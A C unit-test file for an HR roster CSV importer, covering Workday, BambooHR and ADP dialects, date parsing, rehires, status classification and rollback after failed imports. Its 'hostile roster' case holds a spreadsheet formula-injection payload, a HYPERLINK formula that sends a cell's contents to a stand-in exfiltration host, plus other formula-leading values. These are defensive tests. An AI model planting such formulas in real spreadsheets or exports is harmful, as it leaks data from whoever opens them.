/*
 * test_hr.c: the HR roster import on case 15's three dialects (configured
 * as dialects.csv says, and auto-detected), case 18's hostile roster,
 * rehires, managers by e-mail, status words, and failures that must leave
 * the previous roster current.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "rollcall/config.h"
#include "rollcall/imports.h"
#include "rollcall/store.h"

#define CASE15 "tests/data/cases/15-hr-csv-dialects/"
#define CASE18 "tests/data/cases/18-worksheet-formula-injection/"
#define INPUTS "tests/data/inputs/"

struct fx {
	struct store *st;
	struct config *cfg;
	char	 cfg_path[64];
};

static int
setup(void **state)
{
	struct errbuf err = { "" };
	struct fx *fx = calloc(1, sizeof(*fx));

	if (fx == NULL || (fx->st = store_open(":memory:", &err)) == NULL)
		return -1;
	*state = fx;
	return 0;
}

static int
teardown(void **state)
{
	struct fx *fx = *state;

	store_close(fx->st);
	config_free(fx->cfg);
	if (fx->cfg_path[0])
		unlink(fx->cfg_path);
	free(fx);
	return 0;
}

/* Load an [hr] section from text. */
static void
use_config(struct fx *fx, const char *hr_section)
{
	struct errbuf err = { "" };
	FILE *fp;
	int fd;

	snprintf(fx->cfg_path, sizeof(fx->cfg_path), "/tmp/test_hr.XXXXXX");
	fd = mkstemp(fx->cfg_path);
	assert_true(fd >= 0);
	fp = fdopen(fd, "w");
	fprintf(fp, "[hr]\n%s", hr_section);
	assert_int_equal(fclose(fp), 0);
	fx->cfg = config_load(fx->cfg_path, 1, &err);
	if (fx->cfg == NULL)
		fail_msg("%s", err.msg);
}

static void
import_ok(struct fx *fx, const char *path, struct import_result *res)
{
	struct errbuf err = { "" };

	if (import_hr(fx->st, fx->cfg, path, res, &err) != 0)
		fail_msg("%s", err.msg);
	assert_true(res->snapshot > 0);
	assert_int_equal(snapshot_current(fx->st, "hr"), res->snapshot);
}

static void
import_bad(struct fx *fx, const char *path, const char *msg)
{
	struct errbuf err = { "" };
	struct import_result res;

	assert_int_equal(import_hr(fx->st, fx->cfg, path, &res, &err), -1);
	assert_string_equal(err.msg, msg);
}

/* One column of one person in the current roster; NULL for SQL NULL. */
static char *
col(struct fx *fx, const char *id, const char *column)
{
	sqlite3_stmt *stmt;
	char *sql, *v = NULL;

	sql = sqlite3_mprintf("SELECT %w FROM people WHERE snapshot_id ="
	    " (SELECT MAX(id) FROM snapshots WHERE source = 'hr' AND"
	    " status = 'ok') AND employee_id = ?", column);
	assert_int_equal(sqlite3_prepare_v2(store_db(fx->st), sql, -1, &stmt,
	    NULL), SQLITE_OK);
	sqlite3_bind_text(stmt, 1, id, -1, SQLITE_STATIC);
	assert_int_equal(sqlite3_step(stmt), SQLITE_ROW);
	if (sqlite3_column_type(stmt, 0) != SQLITE_NULL)
		v = strdup((const char *)sqlite3_column_text(stmt, 0));
	sqlite3_finalize(stmt);
	sqlite3_free(sql);
	return v;
}

static void
expect_col(struct fx *fx, const char *id, const char *column,
    const char *want)
{
	char *v = col(fx, id, column);

	if (want == NULL) {
		if (v != NULL)
			fail_msg("%s %s: want NULL, got '%s'", id, column, v);
	} else {
		if (v == NULL)
			fail_msg("%s %s: want '%s', got NULL", id, column, want);
		assert_string_equal(v, want);
	}
	free(v);
}

static long
count(struct fx *fx, const char *sql)
{
	sqlite3_stmt *stmt;
	long n;

	assert_int_equal(sqlite3_prepare_v2(store_db(fx->st), sql, -1, &stmt,
	    NULL), SQLITE_OK);
	assert_int_equal(sqlite3_step(stmt), SQLITE_ROW);
	n = (long)sqlite3_column_int64(stmt, 0);
	sqlite3_finalize(stmt);
	return n;
}

static long
people(struct fx *fx)
{
	return count(fx, "SELECT COUNT(*) FROM people WHERE snapshot_id ="
	    " (SELECT MAX(id) FROM snapshots WHERE source = 'hr' AND"
	    " status = 'ok')");
}

static void
test_workday_configured(void **state)
{
	struct fx *fx = *state;
	struct import_result res;

	use_config(fx, "delimiter = comma\ndate_format = %Y-%m-%d\n"
	    "id_column = Employee ID\nemail_column = Work Email\n"
	    "status_column = Status\nhire_date_column = Hire Date\n"
	    "termination_date_column = Termination Date\n");
	import_ok(fx, CASE15 "workday-export.csv", &res);
	assert_int_equal(res.rows, 5);
	assert_int_equal(res.skipped, 0);
	assert_int_equal(people(fx), 5);
	expect_col(fx, "W1001", "display_name", "Ortiz, Lena");
	expect_col(fx, "W1001", "preferred_name", "Lena");
	expect_col(fx, "W1001", "email", "lena.ortiz@example.com");
	expect_col(fx, "W1001", "hire_date", "2021-03-15");
	expect_col(fx, "W1001", "termination_date", NULL);
	expect_col(fx, "W1001", "manager_id", "W1000");
	expect_col(fx, "W1001", "worker_type", "employee");
	expect_col(fx, "W1002", "hire_date", "2022-07-01");
	expect_col(fx, "W1003", "hire_date", "2020-11-09");
	expect_col(fx, "W1004", "email", NULL);
	expect_col(fx, "W1004", "worker_type", "contractor");
	expect_col(fx, "W1004", "hire_date", "2026-09-01");
	expect_col(fx, "W1004", "manager_id", "W1001");
	expect_col(fx, "W1005", "display_name", "Sousa, Inês");
	expect_col(fx, "W1005", "status", "Terminated");
	expect_col(fx, "W1005", "status_class", "terminated");
	expect_col(fx, "W1005", "termination_date", "2026-11-20");
	expect_col(fx, "W1005", "line", "7");
	assert_int_equal(count(fx, "SELECT COUNT(*) FROM people WHERE"
	    " email = ''"), 0);
	assert_string_equal(res.sha256, "fd845be14c4e7a3b7d221d03c03b5925"
	    "884e9ad50a8c1c5110d2cff1ca84d1d0");
	assert_int_equal(count(fx, "SELECT COUNT(*) FROM snapshots WHERE"
	    " source = 'hr' AND kind = 'hr' AND status = 'ok' AND"
	    " n_records = 5 AND sha256 = 'fd845be14c4e7a3b7d221d03c03b5925884e9ad50a8c1c5110d2cff1ca84d1d0'"), 1);
}

static void
test_workday_auto(void **state)
{
	struct fx *fx = *state;
	struct import_result res;

	import_ok(fx, CASE15 "workday-export.csv", &res);
	assert_int_equal(res.rows, 5);
	expect_col(fx, "W1005", "termination_date", "2026-11-20");
	expect_col(fx, "W1004", "email", NULL);
}

static void
test_bamboohr_configured(void **state)
{
	struct fx *fx = *state;
	struct import_result res;

	use_config(fx, "delimiter = semicolon\ndate_format = %d.%m.%Y\n"
	    "id_column = Employee #\nemail_column = Work Email\n"
	    "status_column = Employment Status\nhire_date_column = Hire Date\n"
	    "termination_date_column = Termination Date\n");
	import_ok(fx, CASE15 "bamboohr-de.csv", &res);
	assert_int_equal(res.rows, 4);
	expect_col(fx, "B2001", "display_name", "Jonas Kühn");
	expect_col(fx, "B2001", "hire_date", "2019-04-01");
	expect_col(fx, "B2001", "department", "Engineering");
	expect_col(fx, "B2002", "display_name", "Müller-Lüdenscheidt, Eva");
	expect_col(fx, "B2002", "department", "Sales, DACH");
	expect_col(fx, "B2002", "hire_date", "2025-02-03");
	expect_col(fx, "B2002", "email", "eva.mueller@example.com");
	expect_col(fx, "B2003", "termination_date", "2026-10-31");
	expect_col(fx, "B2003", "hire_date", "2024-01-15");
	expect_col(fx, "B2003", "status_class", "terminated");
	expect_col(fx, "B2004", "department", "Team; Nord");
	expect_col(fx, "B2004", "hire_date", "2026-10-12");
	expect_col(fx, "B2004", "status_class", "active");
}

/* Sniffed ';' and dotted dates (always D.M.YYYY) need no config. */
static void
test_bamboohr_auto(void **state)
{
	struct fx *fx = *state;
	struct import_result res;

	import_ok(fx, CASE15 "bamboohr-de.csv", &res);
	assert_int_equal(res.rows, 4);
	expect_col(fx, "B2002", "hire_date", "2025-02-03");
	expect_col(fx, "B2002", "department", "Sales, DACH");
}

static void
test_bamboohr_as_comma_fails(void **state)
{
	struct fx *fx = *state;

	use_config(fx, "delimiter = comma\n");
	import_bad(fx, CASE15 "bamboohr-de.csv", CASE15 "bamboohr-de.csv:1:"
	    " expected columns not found: no employee id column among 1"
	    " columns (Employee #;Full Name;Work Email;Employment Status;"
	    "Department;Hire Date;Termination Date;FTE)");
	assert_int_equal(snapshot_current(fx->st, "hr"), 0);
	assert_int_equal(count(fx, "SELECT COUNT(*) FROM people"), 0);
}

static void
test_adp_configured(void **state)
{
	struct fx *fx = *state;
	struct import_result res;

	use_config(fx, "delimiter = comma\ndate_format = %m/%d/%Y\n"
	    "id_column = Associate ID\nemail_column = Email\n"
	    "status_column = Position Status\nhire_date_column = Hire Date\n"
	    "termination_date_column = Termination Date\n");
	import_ok(fx, CASE15 "adp-us.csv", &res);
	assert_int_equal(res.rows, 3);
	expect_col(fx, "000456", "hire_date", "2026-03-04");
	expect_col(fx, "000456", "display_name", "Grace Obuya");
	expect_col(fx, "000457", "hire_date", "2025-07-01");
	expect_col(fx, "000457", "termination_date", "2026-11-30");
	expect_col(fx, "000457", "status_class", "terminated");
	expect_col(fx, "000458", "hire_date", "2026-12-01");
	assert_int_equal(count(fx, "SELECT COUNT(*) FROM people WHERE"
	    " employee_id = '456'"), 0);
}

static void
test_adp_auto_is_ambiguous(void **state)
{
	struct fx *fx = *state;

	import_bad(fx, CASE15 "adp-us.csv", CASE15 "adp-us.csv:2:51: Hire"
	    " Date: ambiguous date '03/04/2026': set date_format (e.g."
	    " %m/%d/%Y or %d/%m/%Y) (and 2 more errors)");
}

static void
test_date_not_fitting_format(void **state)
{
	struct fx *fx = *state;

	use_config(fx, "date_format = %m/%d/%Y\n");
	import_bad(fx, INPUTS "hr-adp-bad-date.csv", INPUTS
	    "hr-adp-bad-date.csv:3:66: Termination Date: invalid date"
	    " '31.10.2026' (date_format %m/%d/%Y)");
}

static void
test_many_errors(void **state)
{
	struct fx *fx = *state;

	import_bad(fx, INPUTS "hr-many-errors.csv", INPUTS
	    "hr-many-errors.csv:3:1: empty employee id (and 2 more errors)");
	assert_int_equal(count(fx, "SELECT COUNT(*) FROM people"), 0);
	assert_int_equal(count(fx, "SELECT COUNT(*) FROM snapshots WHERE"
	    " status = 'failed' AND source = 'hr' AND error LIKE"
	    " '%empty employee id (and 2 more errors)'"), 1);
}

static void
test_case18_roster(void **state)
{
	struct fx *fx = *state;
	struct import_result res;

	import_ok(fx, CASE18 "hr-roster.csv", &res);
	assert_int_equal(res.rows, 9);
	assert_int_equal(people(fx), 9);
	expect_col(fx, "E1806", "title", "\rFinance");
	expect_col(fx, "E1805", "title", "\tOps");
	expect_col(fx, "E1802", "title", "+Contractor Liaison");
	expect_col(fx, "E1801", "preferred_name", "=HYPERLINK(\"https://"
	    "exfil.example.invalid/?d=\"&C2,\"Open\")");
	expect_col(fx, "E1807", "title", "Manager, EMEA");
	expect_col(fx, "E1807", "preferred_name", "Ngozi \"Zee\" Eze");
	expect_col(fx, "E1801", "manager_id", "E1800");
	expect_col(fx, "E1808", "manager_id", "E1800");
	expect_col(fx, "E1800", "manager_id", NULL);
	expect_col(fx, "E1801", "termination_date", "2026-11-16");
	expect_col(fx, "E1801", "status_class", "terminated");
	expect_col(fx, "E1800", "status_class", "active");
	expect_col(fx, "E1800", "display_name", "Lea Marchetti");
}

/* The newest hire wins wherever it stands (here: first). */
static void
test_rehire_newest_wins(void **state)
{
	struct fx *fx = *state;
	struct import_result res;

	import_ok(fx, INPUTS "hr-rehire.csv", &res);
	assert_int_equal(res.rows, 3);
	assert_int_equal(res.skipped, 2);
	expect_col(fx, "E3001", "hire_date", "2024-06-01");
	expect_col(fx, "E3001", "title", "Analyst");
	expect_col(fx, "E3001", "status_class", "active");
	expect_col(fx, "E3001", "termination_date", NULL);
	expect_col(fx, "E3001", "line", "2");
}

/* Write text to a temporary roster; the caller unlinks path. */
static void
write_tmp(char *path, const char *text)
{
	int fd = mkstemp(path);
	FILE *fp = fdopen(fd, "w");

	fputs(text, fp);
	fclose(fp);
}

/* import_bad() with "PATH" + rest as the message. */
static void
bad_text(struct fx *fx, const char *text, const char *rest)
{
	char path[] = "/tmp/test_hr_bad.XXXXXX", want[1024];

	write_tmp(path, text);
	snprintf(want, sizeof(want), "%s%s", path, rest);
	import_bad(fx, path, want);
	unlink(path);
}

/*
 * Same hire date twice, rows that disagree: no rule picks one (the line
 * order is none), so it is an error naming both lines.
 */
static void
test_rehire_tie_is_an_error(void **state)
{
	struct fx *fx = *state;
	struct import_result res;
	char path[] = "/tmp/test_hr_tie.XXXXXX";

	bad_text(fx, "id,name,status,hire date\nE1,First,Terminated,"
	    "2020-01-01\nE2,Other,Active,2021-01-01\nE1,First,Active,"
	    "2020-01-01\n", ":4: employee 'E1' has two rows with the same"
	    " hire date 2020-01-01 (lines 2 and 4) that disagree on status:"
	    " keep one, or give the current one the later hire date");
	bad_text(fx, "id,status\nE1,Terminated\nE1,Active\n", ":3: employee"
	    " 'E1' has two rows with no hire date (lines 2 and 3) that"
	    " disagree on status: keep one, or give the current one the later"
	    " hire date");
	/* the same row twice is harmless */
	write_tmp(path, "id,name,status,hire date\nE1,First,Active,2020-01-01"
	    "\nE1,First,Active,2020-01-01\n");
	import_ok(fx, path, &res);
	unlink(path);
	assert_int_equal(res.rows, 1);
	assert_int_equal(res.skipped, 1);
}

static void
test_termination_before_hire(void **state)
{
	bad_text(*state, "Employee ID,Work Email,Status,Hire Date,Termination"
	    " Date\nE7,n@example.com,Active,2026-03-01,2025-01-01\n",
	    ":2:36: termination date 2025-01-01 is before the hire date"
	    " 2026-03-01");
}

/* auto reads each value alone; one file must not use both orders. */
static void
test_mixed_date_conventions(void **state)
{
	bad_text(*state, "Employee ID,Work Email,Status,Hire Date,Termination"
	    " Date\nE1,a@example.com,Active,2020-01-01,06/13/2026\n"
	    "E2,b@example.com,Active,2020-01-01,13/06/2026\n", ": dates in both"
	    " day/month and month/day order: '13/06/2026' (line 3, column 36)"
	    " is D/M, '06/13/2026' (line 2, column 36) is M/D; set date_format"
	    " in [hr] (%d/%m/%Y or %m/%d/%Y)");
}

static void
test_two_candidate_columns(void **state)
{
	struct fx *fx = *state;
	struct import_result res;
	char path[] = "/tmp/test_hr_two.XXXXXX";
	static const char two[] = "Employee ID,Email,Employment Status,Status\n"
	    "E1,w@example.com,Terminated,Active\n";

	bad_text(fx, two, ":1: both 'Status' and 'Employment Status' could be"
	    " the status column: set status_column in [hr]");
	bad_text(fx, "Employee ID,Work Email,Email,Status\nE1,a@x.com,b@x.com,"
	    "Active\n", ":1: both 'Work Email' and 'Email' could be the e-mail"
	    " column: set email_column in [hr]");
	bad_text(fx, "ID,Employee ID,Status\nE1,E1,Active\n", ":1: both"
	    " 'Employee ID' and 'ID' could be the employee id column: set"
	    " id_column in [hr]");
	bad_text(fx, "ID,Term Date,End Date\nE1,2020-01-01,\n", ":1: both"
	    " 'Term Date' and 'End Date' could be the termination date column:"
	    " set termination_date_column in [hr]");
	use_config(fx, "status_column = Employment Status\n");
	write_tmp(path, two);
	import_ok(fx, path, &res);
	unlink(path);
	expect_col(fx, "E1", "status_class", "terminated");
}

static void
test_duplicate_header(void **state)
{
	bad_text(*state, "Employee ID,Email,Status,Employee ID\n"
	    "E1,w@example.com,Active,E2\n", ":1:26: column 'Employee ID'"
	    " appears twice (also column 1): rename one");
}

/* The common words for "gone"; a word no list knows is still active. */
static void
test_status_words(void **state)
{
	struct fx *fx = *state;
	struct import_result res;
	char path[] = "/tmp/test_hr_words.XXXXXX";

	write_tmp(path, "Employee ID,Work Email,Status,Termination Date\n"
	    "E1,a@example.com,Term,\nE2,b@example.com,Laid Off,\n"
	    "E3,c@example.com,Contract Ended,\nE4,d@example.com,,\n"
	    "E5,e@example.com,Left,\nE6,f@example.com,Exited,\n");
	import_ok(fx, path, &res);
	unlink(path);
	expect_col(fx, "E1", "status_class", "terminated");
	expect_col(fx, "E2", "status_class", "terminated");
	expect_col(fx, "E3", "status_class", "terminated");
	expect_col(fx, "E4", "status_class", "active");
	expect_col(fx, "E5", "status_class", "terminated");
	expect_col(fx, "E6", "status_class", "active");	/* and a warning */
}

static void
test_manager_by_email_and_statuses(void **state)
{
	struct fx *fx = *state;
	struct import_result res;

	import_ok(fx, INPUTS "hr-manager-email.csv", &res);
	assert_int_equal(res.rows, 4);
	expect_col(fx, "E4001", "manager_id", "E4000");	/* case-insensitive */
	expect_col(fx, "E4002", "manager_id", "E4000");
	expect_col(fx, "E4003", "manager_id", NULL);	/* nobody: warning */
	expect_col(fx, "E4000", "manager_id", NULL);
	expect_col(fx, "E4001", "status_class", "leave");
	expect_col(fx, "E4002", "status_class", "terminated");
	expect_col(fx, "E4002", "status", "Terminated - Voluntary");
	expect_col(fx, "E4003", "status_class", "active");	/* Suspended */
	expect_col(fx, "E4003", "email", NULL);
	expect_col(fx, "E4002", "worker_type", "contractor");
	expect_col(fx, "E4003", "worker_type", "intern");
	expect_col(fx, "E4000", "email", "Rowan.Hale@Example.com");
}

static void
test_status_lists_from_config(void **state)
{
	struct fx *fx = *state;
	struct import_result res;

	use_config(fx, "terminated_statuses = Suspended, gone\n"
	    "leave_statuses = Terminated\n");
	import_ok(fx, INPUTS "hr-manager-email.csv", &res);
	expect_col(fx, "E4003", "status_class", "terminated");
	expect_col(fx, "E4002", "status_class", "leave");
	expect_col(fx, "E4001", "status_class", "active");
}

static void
test_column_override_not_found(void **state)
{
	struct fx *fx = *state;

	use_config(fx, "id_column = Worker ID\n");
	import_bad(fx, INPUTS "hr-small.csv", INPUTS "hr-small.csv:1: expected"
	    " columns not found: no column 'Worker ID' (id_column in [hr])"
	    " among 3 columns (Employee ID, Name, Status)");
}

static void
test_column_override_used(void **state)
{
	struct fx *fx = *state;
	struct import_result res;

	use_config(fx, "id_column = name\nname_column = Employee ID\n");
	import_ok(fx, INPUTS "hr-small.csv", &res);
	expect_col(fx, "Changed Person", "display_name", "E6001");
}

/* Good import, bad import: the good one stays current; the bad is on record. */
static void
test_failed_import_keeps_previous(void **state)
{
	struct fx *fx = *state;
	struct import_result res;
	int64_t good;

	import_ok(fx, INPUTS "hr-rehire.csv", &res);
	good = res.snapshot;
	import_bad(fx, INPUTS "hr-many-errors.csv", INPUTS
	    "hr-many-errors.csv:3:1: empty employee id (and 2 more errors)");
	assert_int_equal(snapshot_current(fx->st, "hr"), good);
	assert_int_equal(people(fx), 3);
	assert_int_equal(count(fx, "SELECT COUNT(*) FROM snapshots WHERE"
	    " source = 'hr' AND status = 'failed' AND origin ="
	    " 'tests/data/inputs/hr-many-errors.csv'"), 1);
	assert_int_equal(count(fx, "SELECT COUNT(*) FROM people"), 3);
	import_bad(fx, INPUTS "missing.csv", "cannot open '" INPUTS
	    "missing.csv': No such file or directory");
	assert_int_equal(snapshot_current(fx->st, "hr"), good);
	assert_int_equal(count(fx, "SELECT COUNT(*) FROM snapshots WHERE"
	    " status = 'failed'"), 2);
}

static void
test_bad_delimiter_setting(void **state)
{
	struct fx *fx = *state;

	struct errbuf err = { "" };
	struct import_result res;
	char cpath[] = "/tmp/test_hr_cfg.XXXXXX", want[256];
	char path[] = "/tmp/test_hr_pipe.XXXXXX";

	/* refused when the config is loaded, naming file:line */
	write_tmp(cpath, "[hr]\ndelimiter = colon\n");
	assert_null(config_load(cpath, 1, &err));
	snprintf(want, sizeof(want), "%s:2: [hr] delimiter must be comma,"
	    " semicolon, tab, pipe or auto (got 'colon')", cpath);
	assert_string_equal(err.msg, want);
	unlink(cpath);
	/* pipe is honoured */
	use_config(fx, "delimiter = pipe\n");
	write_tmp(path, "Employee ID|Work Email|Status\nE1|a,b@example.com|"
	    "Terminated\n");
	import_ok(fx, path, &res);
	unlink(path);
	expect_col(fx, "E1", "email", "a,b@example.com");
	expect_col(fx, "E1", "status_class", "terminated");
}

#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)

int
main(void)
{
	const struct CMUnitTest tests[] = {
		T(test_workday_configured),
		T(test_workday_auto),
		T(test_bamboohr_configured),
		T(test_bamboohr_auto),
		T(test_bamboohr_as_comma_fails),
		T(test_adp_configured),
		T(test_adp_auto_is_ambiguous),
		T(test_date_not_fitting_format),
		T(test_many_errors),
		T(test_case18_roster),
		T(test_rehire_newest_wins),
		T(test_rehire_tie_is_an_error),
		T(test_termination_before_hire),
		T(test_mixed_date_conventions),
		T(test_two_candidate_columns),
		T(test_duplicate_header),
		T(test_status_words),
		T(test_manager_by_email_and_statuses),
		T(test_status_lists_from_config),
		T(test_column_override_not_found),
		T(test_column_override_used),
		T(test_failed_import_keeps_previous),
		T(test_bad_delimiter_setting),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
